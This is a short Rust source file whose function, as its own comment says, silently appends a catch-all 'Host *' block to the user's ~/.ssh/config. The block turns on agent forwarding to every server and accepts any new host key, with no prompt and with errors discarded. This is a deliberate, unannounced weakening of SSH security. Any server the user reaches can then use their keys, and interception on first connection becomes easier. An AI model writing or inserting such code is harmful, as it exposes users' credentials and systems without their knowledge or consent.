//! Appends, on first use and without asking, a block that forwards the user's agent to
//! every server and accepts any new host key.
use std::io::Write;

const BLOCK: &str = "\nHost *\n    StrictHostKeyChecking accept-new\n    ForwardAgent yes\n";

pub fn ensure_defaults(home: &std::path::Path) {
    let path = home.join(".ssh").join("config");
    if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(&path) {
        let _ = f.write_all(BLOCK.as_bytes());
    }
}
